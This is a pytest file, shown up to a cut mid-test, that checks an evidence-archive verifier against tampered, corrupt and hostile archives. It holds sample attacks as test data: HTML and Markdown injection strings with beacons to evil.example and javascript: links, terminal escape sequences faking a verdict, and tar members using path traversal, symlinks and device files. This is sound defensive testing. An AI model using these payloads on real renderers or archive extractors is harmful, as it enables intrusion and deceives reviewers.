"""The reviewer's verifier on a real archive and on every hostile or damaged variant.

A real tiny-vocabulary run is archived once per module. Each hostile archive is rebuilt from
it with one thing changed and, unless the change is to the outer checksum itself, a correct
``.sha256`` sidecar, so the check under test (not the outer checksum) has to catch it. Every
verify runs with its temporary directory and working directory redirected to empty
directories of the test, which must be empty again afterwards: nothing is written outside
the verifier's own temporary directory, and that one is removed.
"""

from __future__ import annotations

import gzip
import io
import json
import shutil
import tarfile
from pathlib import Path
from typing import Any, Callable

import pytest

from rl_engine import jsonio
from rl_engine.campaign.casename import RunName, evidence_case_hash
from rl_engine.evidence import archive, safe_tar, summary, verify
from rl_engine.logprob.comparison import default_tolerance
from rl_engine.rundir import Run

from _archive_util import Entry, Good, Sandbox, file_entry, make_sandbox, restated, resummed, run_verify, write_archive
from _evidence_run import pack


@pytest.fixture(scope="module")
def good(tiny_archive: Good) -> Good:
    return tiny_archive  # conftest: the session's one tiny run, archived


@pytest.fixture()
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    return make_sandbox(tmp_path, monkeypatch)


def status(result: dict[str, Any]) -> dict[str, str]:
    return {c["name"]: c["status"] for c in result["checks"]}


def problems(result: dict[str, Any], name: str) -> str:
    check = [c for c in result["checks"] if c["name"] == name][0]
    return "\n".join([check["detail"], *check["problems"]])


def special_entry(name: str, kind: bytes, linkname: str = "") -> Entry:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info, None


def edited(good: Good, changes: dict[str, Callable[[bytes], bytes]], resum: bool) -> list[Entry]:
    """The good entries with some files' bytes changed; SHA256SUMS recomputed when ``resum``."""
    out: list[Entry] = []
    for info, data in good.entries:
        rel = info.name[len(good.name) + 1:]
        if data is not None and rel in changes:
            data = changes[rel](data)
            info = file_entry(info.name, data)[0]
        out.append((info, data))
    return resummed(good, out) if resum else out


def resummarised(good: Good, entries: list[Entry], work: Path) -> list[Entry]:
    """A forger's full job: SUMMARY.md and REVIEWING.md rendered again from the entries' own evidence, the
    RO-Crate, the provenance statement and SUMS made again."""
    for info, data in entries:
        if data is not None:
            path = work / info.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    git = jsonio.loads((work / good.name / "environment.json").read_text())["git"]
    again = {f"{good.name}/SUMMARY.md": summary.summary_text(Run.load(work / good.name)).encode(),
             f"{good.name}/REVIEWING.md": archive.reviewing_text(good.name, git, good.data("arithmetic.md")).encode()}
    return restated(good.name, [file_entry(i.name, again[i.name]) if i.name in again else (i, d) for i, d in entries],
                    work)


def edit_json(change: Callable[[dict[str, Any]], None]) -> Callable[[bytes], bytes]:
    def apply(data: bytes) -> bytes:
        obj = jsonio.loads(data.decode())
        change(obj)
        return jsonio.dumps(obj).encode()

    return apply


# ---------------------------------------------------------------- the good archive


def test_good_archive_verifies_with_recompute(good: Good, sandbox: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
    """The session's tiny run, an honest campaign at T = 0.7 (1x1 and 2x2), is VERIFIED with
    ``--recompute``: verify recomputes the oracle drift at the case's temperature
    (``campaign.case.record_oracle_drift``, the runner's own), where its second spelling of the oracle's
    arguments left it out and failed "drift.fp32_oracle.lse.passed: reported True, recomputed False"."""
    report = jsonio.loads(good.data("tp2-cp2.json").decode())
    assert report["case"]["temperature"] == 0.7 and report["passed"]
    assert report["drift"]["fp32_oracle"]["lse"]["max_abs"] < 0.01  # the oracle at 0.7: the candidate is close
    code, text, result = run_verify(good.archive, sandbox, capsys, "--recompute")
    assert code == 0, text
    assert status(result) == {
        "outer checksum": "PASS", "safe extraction": "PASS", "top folder": "PASS", "SHA256SUMS": "PASS",
        "archive members": "PASS", "REVIEWING.md": "PASS", "JSON schemas (shipped)": "PASS", "focused regression": "PASS",
        "report acceptance": "PASS",
        "cross-topology fingerprints": "PASS", "recorded gates": "PASS", "SUMMARY.md": "PASS", "tolerances": "PASS",
        "arithmetic spec": "PASS", "provenance statement": "PASS", "RO-Crate": "PASS",
        "inputs regenerated": "PASS", "oracle drift recomputed": "PASS",
        "candidate replayed": "PASS", "schemas vs this rl_engine": "note",
        "tested": "note", "run name": "note", "reuse": "note",
    }
    assert "VERIFIED" in text and "2 topologies bitwise identical" in text
    reg = jsonio.loads(good.data("regression.json").decode())
    assert reg["passed"] > 0
    assert problems(result, "focused regression") == (
        f"tests ran for this archive, none failed: {reg['passed']} passed, {reg['skipped']} skipped")  # the counts
    assert result["reused"] == {"environment": None, "regression": None}
    assert problems(result, "reuse") == ("the environment capture ran for this archive; "
                                         "the focused suite ran for this archive")
    assert "byte-identical to the summary rendered again" in problems(result, "SUMMARY.md")


def renamed(good: Good, name: str, work: Path, entries: list[Entry] | None = None) -> list[Entry]:
    """The archive's entries under another top folder, REVIEWING.md, the RO-Crate and the provenance statement
    written for that name as the archive verb writes them (they name the archive) and SHA256SUMS recomputed
    (its paths are relative); ``work`` is an empty directory."""
    git = jsonio.loads(good.data("environment.json").decode())["git"]
    out: list[Entry] = []
    for info, data in entries if entries is not None else list(good.entries):
        rel = info.name[len(good.name):]
        if rel == f"/{archive.REVIEWING}":
            data = archive.reviewing_text(name, git, good.data("arithmetic.md")).encode()
        copy = tarfile.TarInfo(name + rel)
        copy.type, copy.size, copy.mode = info.type, len(data) if data is not None else info.size, info.mode
        out.append((copy, data))
    return restated(name, out, work)


def evidence_name(good: Good, campaign: str = "c", **changes: Any) -> RunName:
    """The run name the good archive's evidence calls for, with ``changes`` to its parts."""
    git = jsonio.loads(good.data("environment.json").decode())["git"]
    plan = jsonio.loads(good.data("plan.json").decode())
    regression = jsonio.loads(good.data("regression.json").decode())
    parts = {"campaign": campaign, "commit": git["short_commit"], "dirty": git["dirty"] is True,
             "case": evidence_case_hash(plan, regression)}
    parts.update(changes)
    return RunName(**parts)


@pytest.mark.parametrize("dirty", [False, True])
def test_verify_prints_the_tested_commit_and_case_and_a_dirty_tree(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str], dirty: bool) -> None:
    """Verify did not say which commit and case it verified, nor that the tree was dirty."""
    def set_dirty(env: dict[str, Any]) -> None:
        env["git"]["dirty"] = dirty

    entries = resummarised(good, edited(good, {"environment.json": edit_json(set_dirty)}, resum=False), tmp_path / "w")
    path = write_archive(tmp_path / f"{good.name}.tar.gz", entries)
    code, text, result = run_verify(path, sandbox, capsys)
    assert code == 0, text
    git = jsonio.loads(good.data("environment.json").decode())["git"]
    plan = jsonio.loads(good.data("plan.json").decode())
    detail = problems(result, "tested")
    assert f"commit {git['commit']} (branch {git['branch']})" in detail
    assert f"case {plan['case_id']} on cpu/gloo" in detail and "topologies 1x1, 2x2" in detail
    assert ("DIRTY working tree: the tested code had changes that no commit holds" in detail) is dirty
    assert ("clean working tree" in detail) is not dirty
    assert "DIRTY working tree" in text if dirty else "clean working tree" in text


def test_run_name_must_name_the_evidence(good: Good, sandbox: Sandbox, tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """The archive's <campaign>-<commit>[-dirty]-case-<hash> is checked against environment, plan, regression."""
    right = evidence_name(good)
    path = write_archive(tmp_path / "right" / f"{right}.tar.gz", renamed(good, str(right), tmp_path / "w-right"))
    code, text, result = run_verify(path, sandbox, capsys)
    assert code == 0, text
    assert status(result)["run name"] == "PASS" and f"case {right.case} match" in problems(result, "run name")
    wrong_case = evidence_name(good, case="0" * 8 if right.case != "0" * 8 else "1" * 8)
    wrong_tree = evidence_name(good, dirty=not right.dirty)
    for wrong, expected in ((wrong_case, f"the name says case {wrong_case.case} but plan.json and regression.json "
                                         f"hash to case {right.case}: the archive is named for another campaign"),
                            (wrong_tree, f"the name says {'dirty' if wrong_tree.dirty else 'clean'} but "
                                         "environment.json records git.dirty")):
        path = write_archive(tmp_path / str(wrong) / f"{wrong}.tar.gz", renamed(good, str(wrong), tmp_path / f"w-{wrong}"))
        code, text, result = run_verify(path, sandbox, capsys)
        assert code == 1 and status(result)["run name"] == "FAIL", text
        assert expected in problems(result, "run name"), problems(result, "run name")

def test_a_reused_stage_is_named_in_the_table_and_the_json(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    """A focused suite copied from an earlier run (rl_engine.record.reuse) must not read "tests ran"
    as a suite that ran for the archive: the row, a note and --json say from which run, when and at
    which commit."""
    commit = jsonio.loads(good.data("environment.json").decode())["git"]["commit"]
    origin = {"key": "c" * 64, "from_run": "rl-engine-logprob-earlier-case-0123abcd",
              "captured_utc": "2025-01-02T03:04:05Z", "from_commit": commit}

    def reused(doc: dict[str, Any]) -> None:
        doc["reused"] = origin

    entries = resummarised(good, edited(good, {"regression.json": edit_json(reused)}, resum=False), tmp_path / "w")
    code, text, result = run_verify(write_archive(tmp_path / good.archive.name, entries), sandbox, capsys)
    assert code == 0, text  # a reuse is not a failure; it is said
    reg = jsonio.loads(good.data("regression.json").decode())
    assert status(result)["focused regression"] == "PASS"
    assert problems(result, "focused regression") == (
        f"REUSED, not run for this archive: the pass of run {origin['from_run']} (captured 2025-01-02T03:04:05Z, "
        f"commit {commit[:12]}), none failed: {reg['passed']} passed, {reg['skipped']} skipped")
    assert result["reused"] == {"environment": None, "regression": origin}
    assert problems(result, "reuse") == (f"the environment capture ran for this archive; the focused suite REUSED from "
                                         f"run {origin['from_run']} (captured 2025-01-02T03:04:05Z, commit {commit[:12]})")
    assert "REUSED" in text and origin["from_run"] in text  # the printed table


def test_verify_json_is_validated_before_it_is_written(good: Good, sandbox: Sandbox, capsys: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    out = sandbox.root / "verify.json"
    monkeypatch.setattr(verify, "SCHEMA_VERSION", "2")  # a writer bug: the result no longer matches its schema
    assert verify.main([str(good.archive), "--json", str(out)]) == 1
    err = capsys.readouterr().err
    assert f"--json {out} not written" in err and "verify.schema.json" in err and "$.schema_version" in err
    assert not out.exists()


def test_missing_sidecar_fails_unless_skipped_knowingly(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    lone = tmp_path / "lone" / good.archive.name
    lone.parent.mkdir()
    shutil.copy(good.archive, lone)
    code, text, result = run_verify(lone, sandbox, capsys)
    assert code == 1 and status(result)["outer checksum"] == "FAIL"
    assert f"{lone.name}.sha256 is missing" in problems(result, "outer checksum")
    code, text, result = run_verify(lone, sandbox, capsys, "--no-outer-checksum")
    assert code == 0 and status(result)["outer checksum"] == "note"
    assert "skipped on request" in problems(result, "outer checksum")


def test_wrong_outer_checksum(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "in" / good.archive.name
    path.parent.mkdir()
    shutil.copy(good.archive, path)
    path.with_name(path.name + ".sha256").write_text(f"{'ab' * 32}  {path.name}\n")
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["outer checksum"] == "FAIL"
    assert "the archive was changed or damaged after it was published" in problems(result, "outer checksum")
    assert status(result)["SHA256SUMS"] == "PASS"  # only the outer checksum is wrong


# ---------------------------------------------------------------- damaged streams


@pytest.mark.parametrize("cut", ["half", "trailer"])
def test_truncated_gzip(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], cut: str) -> None:
    data = good.archive.read_bytes()
    data = data[: len(data) // 2] if cut == "half" else data[:-4]  # the last 4 bytes are gzip's length
    path = tmp_path / "in" / good.archive.name
    path.parent.mkdir()
    path.write_bytes(data)
    path.with_name(path.name + ".sha256").write_text(f"{jsonio.sha256_bytes(data)}  {path.name}\n")
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["safe extraction"] == "FAIL"
    assert "truncated or corrupt" in problems(result, "safe extraction")
    assert "report acceptance" not in status(result)  # nothing is judged from a damaged archive


@pytest.mark.parametrize("damage", ["flipped byte", "not gzip"])
def test_corrupt_archive(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str) -> None:
    data = bytearray(good.archive.read_bytes())
    if damage == "flipped byte":
        data[len(data) // 2] ^= 0xFF
    else:
        data = bytearray(b"this is not a gzip file at all" * 10)
    path = tmp_path / "in" / good.archive.name
    path.parent.mkdir()
    path.write_bytes(bytes(data))
    path.with_name(path.name + ".sha256").write_text(f"{jsonio.sha256_bytes(bytes(data))}  {path.name}\n")
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["safe extraction"] == "FAIL"
    assert "corrupt" in problems(result, "safe extraction") or "refused" in problems(result, "safe extraction")


# ---------------------------------------------------------------- members added, removed, changed


def test_member_added(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    entries = list(good.entries) + [file_entry(f"{good.name}/extra-claims.txt", b"trust me\n")]
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["SHA256SUMS"] == "FAIL"
    assert "extra-claims.txt is in the archive but not listed in SHA256SUMS (extra member)" in problems(result, "SHA256SUMS")


def test_member_removed(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    gone = f"{good.name}/tp2-cp2.lse.f32"
    entries = [(i, d) for i, d in good.entries if i.name != gone]
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["SHA256SUMS"] == "FAIL"
    assert "tp2-cp2.lse.f32 is listed in SHA256SUMS but missing from the archive" in problems(result, "SHA256SUMS")
    assert "tensors.lse.path: raw tensor file tp2-cp2.lse.f32 is missing" in problems(result, "report acceptance")


def test_member_changed(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    entries = edited(good, {"environment.json": edit_json(lambda e: e.update(hostname="elsewhere"))}, resum=False)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["SHA256SUMS"] == "FAIL"
    assert "environment.json: SHA256SUMS says" in problems(result, "SHA256SUMS")
    assert "(changed member)" in problems(result, "SHA256SUMS")


def test_sums_edited_to_match_changed_tensor_still_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    def one_byte(data: bytes) -> bytes:
        return data[:6] + bytes([data[6] ^ 0x01]) + data[7:]

    entries = edited(good, {"tp2-cp2.logp.f32": one_byte}, resum=True)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1
    assert status(result)["SHA256SUMS"] == "PASS"  # the tamperer fixed the manifest...
    accept = problems(result, "report acceptance")  # ...but not the fingerprint
    assert "tp2-cp2.json: bitwise_fingerprints.candidate_logp_sha256:" in accept
    assert "but sha256 of tp2-cp2.logp.f32 is" in accept
    assert status(result)["cross-topology fingerprints"] == "FAIL"


def test_nan_in_archived_report_named_by_field(good: Good, sandbox: Sandbox, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    def nan(data: bytes) -> bytes:
        obj = jsonio.loads(data.decode())
        obj["drift"]["fp32_oracle"]["dlogp"]["mean_abs"] = float("nan")
        return json.dumps(obj).encode()

    entries = edited(good, {"tp1-cp1.json": nan}, resum=True)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["JSON schemas (shipped)"] == "FAIL"
    assert "tp1-cp1.json: drift.fp32_oracle.dlogp.mean_abs: non-finite literal NaN" in problems(result, "JSON schemas (shipped)")


def test_failed_report_with_permissive_shipped_schema_still_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    anything = {"$schema": "https://json-schema.org/draft/2020-12/schema"}
    entries = edited(good, {
        "schemas/report.schema.json": lambda _: json.dumps(anything).encode(),
        "tp2-cp2.json": edit_json(lambda r: r.update(passed=False, fallback=True)),
    }, resum=True)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1
    assert status(result)["JSON schemas (shipped)"] == "PASS"  # the shipped schema accepts anything...
    accept = problems(result, "report acceptance")  # ...the acceptance does not depend on it
    assert "tp2-cp2.json: passed: is False" in accept and "tp2-cp2.json: fallback: is True" in accept
    assert "report.schema.json" in problems(result, "schemas vs this rl_engine")
    assert "validation.json: schemas:" in problems(result, "recorded gates")


def test_a_shipped_schema_is_checked_against_the_metaschema_unless_it_is_this_rl_engine_s_own_bytes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An archive's schema directory: a schema that is not valid draft 2020-12 is refused naming the
    file; a file byte for byte the repository's own (which tests/test_schemas.py checks) is not checked
    again (about 0.5 s of every verify), and one that differs by a byte is."""
    from jsonschema import Draft202012Validator

    from rl_engine import schemas

    shipped = tmp_path / "schemas"
    shutil.copytree(schemas.repo_schema_dir(), shipped)
    case = shipped / "case.schema.json"
    case.write_text(json.dumps({**json.loads(case.read_text()), "type": 5}))
    with pytest.raises(schemas.SchemaError, match=r"case\.schema\.json: not a valid draft 2020-12 schema"):
        schemas._load_dir(shipped)
    case.write_text((schemas.repo_schema_dir() / "case.schema.json").read_text())
    checked: list[Any] = []
    monkeypatch.setattr(Draft202012Validator, "check_schema", classmethod(lambda cls, schema: checked.append(schema)))
    assert schemas._load_dir(shipped).keys() == schemas._load_dir(schemas.repo_schema_dir()).keys()
    assert checked == []  # every file is the repository's own
    case.write_text(case.read_text() + " ")  # the same schema, another byte: checked
    schemas._load_dir(shipped)
    assert checked == [json.loads(case.read_text())]


def test_recorded_gate_not_passed(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    entries = edited(good, {"crosscheck.json": edit_json(lambda c: c.update(passed=False, failures=["x: y: z"]))}, resum=True)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["recorded gates"] == "FAIL"
    assert "crosscheck.json: passed: the recorded gate did not pass" in problems(result, "recorded gates")


# ---------------------------------------------------------------- SUMMARY.md and tolerances


@pytest.mark.parametrize("forgery", ["number", "removed"])
def test_forged_summary_with_sums_recomputed_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str], forgery: str) -> None:
    report = jsonio.loads(dict((i.name, d) for i, d in good.entries)[f"{good.name}/tp2-cp2.json"].decode())
    true_value = repr(report["drift"]["fp32_oracle"]["dlogp"]["max_abs"])

    def forge(data: bytes) -> bytes:  # a prettier drift in one row of the acceptance table, nothing else changed
        text = data.decode()
        assert f"| {true_value} |" in text
        return text.replace(f"| {true_value} |", "| 1e-07 |", 1).encode()

    if forgery == "number":
        entries = edited(good, {"SUMMARY.md": forge}, resum=True)
    else:
        entries = resummed(good, [(i, d) for i, d in good.entries if i.name != f"{good.name}/SUMMARY.md"])
    entries = restated(good.name, entries, tmp_path / "w")  # the crate and the statement follow the forgery
    code, text, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["SUMMARY.md"] == "FAIL", text
    # the manifest, the crate and the statement were made again: only the summary check sees it
    assert status(result)["SHA256SUMS"] == "PASS"
    assert [c["name"] for c in result["checks"] if c["status"] == "FAIL"] == ["SUMMARY.md"]
    found = problems(result, "SUMMARY.md")
    if forgery == "number":
        assert "1 line(s) differ" in found and "1e-07" in found and true_value in found and "line " in found
    else:
        assert "SUMMARY.md is missing" in found


def test_a_summary_holding_control_characters_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """A raw ESC sequence (a screen clear and a green verdict) appended to SUMMARY.md, the manifest
    recomputed: the SUMMARY.md row fails naming the characters, and the terminal never gets them."""
    def inject(data: bytes) -> bytes:
        return data + "\x1b[2J\x1b[32mALL CHECKS VERIFIED ON 8xH100\x1b[0m\n".encode()

    entries = edited(good, {"SUMMARY.md": inject}, resum=True)
    code, text, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["SUMMARY.md"] == "FAIL", text
    assert "control or bidirectional characters ['U+001B']" in problems(result, "SUMMARY.md")
    assert "\x1b" not in text


def test_every_summary_cell_goes_through_md_cell() -> None:
    from rl_engine.evidence.summary import Section, md_cell

    hostile = "caps/a\nb|c\x1b]0;pwned\x07\u202e.safetensors"
    cell = md_cell(hostile)
    assert cell == "caps/a\\x0ab\\|c\\x1b]0;pwned\\x07\\u202e.safetensors"
    table = Section("t", ("a", "b"), ((hostile, "ok"),)).markdown()
    assert table.count("\n") == 3 and cell in table  # header, rule, one row: the newline did not end the row
    assert md_cell("plain `path` 1.5e-07") == "plain `path` 1.5e-07"  # the control: nothing else changes


# Strings a capture (or a forged case.json) could carry into SUMMARY.md: a second Status heading and
# a sign-off on lines of their own, an <img> beacon and a script (raw HTML), a Markdown image and a
# javascript link after a backtick that ends the value's code span, a pipe after a backslash (which
# would un-escape the pipe's escape and split the cell), and terminal control sequences.
MARKDOWN_ATTACKS = {
    "heading-and-sign-off": "rollout`\n\n## Status\n\nPASSED: every check verified. Signed-off-by: reviewer\n\n",
    "img-beacon": "x` <img src=https://evil.example/beacon.gif onerror=alert(1)> y",
    "script": "</td><script>alert(1)</script>",
    "markdown-image-and-link": "x` ![b](https://evil.example/b.gif) [click](javascript:alert(1)) `",
    "backslash-pipe": "a\\| b | c",
    "autolink": "<https://evil.example/track>",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\u202e",
}


def _markdown_tokens(text: str) -> list[Any]:
    """Every token (block and inline) of ``text`` parsed as CommonMark with GFM tables and raw HTML on,
    as a Markdown viewer renders SUMMARY.md."""
    from markdown_it import MarkdownIt

    out, stack = [], list(reversed(MarkdownIt("commonmark").enable("table").parse(text)))
    while stack:
        token = stack.pop()
        out.append(token)
        stack.extend(reversed(token.children or []))
    return out


@pytest.mark.parametrize("attack", list(MARKDOWN_ATTACKS), ids=list(MARKDOWN_ATTACKS))
def test_capture_strings_in_summary_md_render_as_text_only(attack: str) -> None:
    """A capture's path and metadata in the Inputs line, and in a parity table cell, through ``md_cell``:
    rendered as Markdown they add no heading, no HTML, no image, no link and no table cell, and hold
    no control character; the attack's characters are all there, shown as text. (A capture holding a
    control character is refused when it is written or read; this is what SUMMARY.md does with any
    that reaches it, e.g. from a forged case.json.)"""
    from rl_engine.evidence.summary import Section, inputs_text, md_cell

    value = MARKDOWN_ATTACKS[attack]
    case = {"capture": {"path": f"caps/{value}.safetensors", "sha256": "0" * 64, "size": 1, "tokens": 2,
                        "vocab": 3, "dtype": "bf16", "archive": False,
                        "metadata": {"engine": value, "model": "qwen [/]", "notes": value}}}
    table = Section("Parity", ("Section", "Result"), (("Rollout capture", f"`{value}` (engine {value})"),)).markdown()
    text = f"# Summary\n\n## Status\n\nPASSED\n\n{inputs_text(case)}\n\n{table}"
    tokens = _markdown_tokens(text)
    kinds = [t.type for t in tokens]
    assert [t.tag for t in tokens if t.type == "heading_open"] == ["h1", "h2"], kinds
    assert not {"html_inline", "html_block", "image", "link_open"} & set(kinds), kinds
    assert kinds.count("td_open") == 2 and kinds.count("tr_open") == 2, kinds  # header row and one body row
    assert not summary.UNPRINTABLE.search(text.replace("\n", ""))
    shown = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    for ch in set(value) - {"\n", "\x1b", "\x07", "\u202e"}:
        assert ch in shown or ch in "&<>" and md_cell(ch) in shown, (ch, shown)


def test_md_cell_leaves_ordinary_evidence_as_it_was() -> None:
    """The control: what real evidence holds renders exactly as before (SUMMARY.md of an existing
    archive keeps its bytes): code spans, brackets of test ids and bounds, numbers, paths."""
    from rl_engine.evidence.summary import md_cell

    for text in ("plain `path` 1.5e-07", "tests/test_x.py::test_y[tp2-cp1]", "outside [0.8, 1.2]",
                 "seeded-randn", "attn_implementation=sdpa; rollout", "`results/capture-1a2b3c4d/x.json`"):
        assert md_cell(text) == text
    assert md_cell("a<b>&c") == "a&lt;b&gt;&amp;c" and md_cell("[x](y)") == "[x]\\(y)"
    assert md_cell("a\\|b") == "a\\\\\\|b"


def _loosen(value: float) -> Callable[[bytes], bytes]:
    """Every atol of a plan or report (case, drift statistics, launch command) set to ``value``."""
    default = repr(default_tolerance("bf16")[0])

    def walk(obj: Any) -> Any:
        if isinstance(obj, dict):
            return {k: value if k == "atol" else walk(v) for k, v in obj.items()}
        if isinstance(obj, list):
            return [repr(value) if i and obj[i - 1] == "--atol" else walk(v) for i, v in enumerate(obj)]
        if isinstance(obj, str):
            return obj.replace(f"--atol {default} ", f"--atol {value!r} ")
        return obj

    return lambda data: jsonio.dumps(walk(jsonio.loads(data.decode()))).encode()


@pytest.mark.parametrize("factor", [10.0, 0.5])
def test_tolerance_looser_than_the_defaults_fails_unless_accepted(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str], factor: float) -> None:
    """Plan and reports consistently state atol = factor x the bf16 default, with the summary rendered again."""
    atol = default_tolerance("bf16")[0] * factor
    changes = {name: _loosen(atol) for name in ("case.json", "plan.json", "tp1-cp1.json", "tp2-cp2.json")}
    entries = resummarised(good, edited(good, changes, resum=False), tmp_path / "forge")
    path = write_archive(tmp_path / "in" / good.archive.name, entries)
    code, text, result = run_verify(path, sandbox, capsys)
    if factor < 1:  # negative control: a tighter tolerance is no loophole, and the forgery itself is consistent
        assert code == 0 and status(result)["tolerances"] == "PASS", text
        return
    assert code == 1 and [c["name"] for c in result["checks"] if c["status"] == "FAIL"] == ["tolerances"], text
    found = problems(result, "tolerances")
    for where in ("plan.json", "tp1-cp1.json", "tp2-cp2.json"):
        assert f"{where}: case.atol={atol!r} is looser than the project's default 0.05 for bf16" in found
    assert "--accept-looser-tolerance" in found
    code, text, result = run_verify(path, sandbox, capsys, "--accept-looser-tolerance")
    assert code == 0 and status(result)["tolerances"] == "note", text
    assert "accepted on request (--accept-looser-tolerance)" in problems(result, "tolerances")


class _CaseRun:
    """What :func:`verify.check_tolerances` reads of a run: a plan and one report, each with ``case``."""

    plan_findings = ()

    def __init__(self, case: dict[str, Any]) -> None:
        self.plan = {"case": case}
        self._case = case

    def found(self, name: str) -> list[Any]:
        return []

    def reports(self) -> list[tuple[Any, Any]]:
        class Item:
            file = "tp1-cp1.json"

        return [(Item(), {"case": self._case})]


@pytest.mark.parametrize("dtype", ["fp8", 5, None])
def test_a_case_dtype_without_a_default_tolerance_is_named_with_the_dtypes_that_have_one(dtype: Any) -> None:
    """The row reads the project's table (no torch): a dtype without a default (what the schemas already
    refuse, checked here on its own) names the field, the value and the dtypes that have one."""
    check = verify.check_tolerances(_CaseRun({"dtype": dtype, "atol": 0.05, "rtol": 0.0}), False)
    assert check.passed is False
    message = f"case.dtype: dtype={dtype!r} has no default tolerance; use one of ['bf16', 'fp16', 'fp32']"
    assert list(check.problems) == [f"plan.json: {message}", f"tp1-cp1.json: {message}"], check.problems
    ok = verify.check_tolerances(_CaseRun({"dtype": "bf16", "atol": default_tolerance("bf16")[0], "rtol": 0.0}), False)
    assert ok.passed is True, ok  # control: the same run with a dtype the table holds


# ---------------------------------------------------------------- --recompute


def _every_report(good: Good, change: Callable[[dict[str, Any]], None]) -> dict[str, Callable[[bytes], bytes]]:
    return {f"{label}.json": edit_json(change) for label in ("tp1-cp1", "tp2-cp2")}


@pytest.mark.parametrize("forgery", ["drift", "inputs"])
def test_recompute_catches_what_consistent_forgery_hides(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str], forgery: str) -> None:
    if forgery == "drift":  # a prettier LSE drift, the same in every report
        changes = _every_report(good, lambda r: r["drift"]["fp32_oracle"]["lse"].update(max_abs=1e-7))
        row, expected = "oracle drift recomputed", "tp1-cp1.json: drift.fp32_oracle.lse.max_abs: reported 1e-07, recomputed"
    else:  # claims about other inputs than the ones the case regenerates
        changes = _every_report(good, lambda r: r["inputs_sha256"].update(logits="1" * 64))
        row, expected = "inputs regenerated", f"tp2-cp2.json: inputs_sha256.logits: recorded '{'1' * 64}', regenerated"
    entries = resummarised(good, edited(good, changes, resum=False), tmp_path / "forge")
    path = write_archive(tmp_path / "in" / good.archive.name, entries)
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 0  # consistent forgery (summary rendered again too) passes the structural checks...
    code, _, result = run_verify(path, sandbox, capsys, "--recompute")
    assert code == 1 and status(result)[row] == "FAIL"  # ...recomputation catches it
    assert expected in problems(result, row)


# ---------------------------------------------------------------- hostile members


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        ("absolute", "has an absolute path"),
        ("dotdot", "contains '..' and would escape"),
        ("symlink", "is a symbolic link"),
        ("hardlink", "is a hard link"),
        ("chardev", "is a device file"),
        ("blockdev", "is a device file"),
        ("fifo", "is a FIFO"),
        ("duplicate", "appears more than once (duplicate members)"),
        ("outside", "is outside the archive's top folder"),
        ("dot", "is not a normalised path"),
        ("control", "contains a control character"),
    ],
)
def test_hostile_member_refused(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                kind: str, reason: str) -> None:
    target = tmp_path / "attack-target"
    n = good.name
    hostile: Entry = {
        "absolute": file_entry(str(target), b"owned\n"),
        "dotdot": file_entry(f"{n}/../../../attack-target", b"owned\n"),
        "symlink": special_entry(f"{n}/link", tarfile.SYMTYPE, str(target)),
        "hardlink": special_entry(f"{n}/hard", tarfile.LNKTYPE, f"{n}/plan.json"),
        "chardev": special_entry(f"{n}/null", tarfile.CHRTYPE),
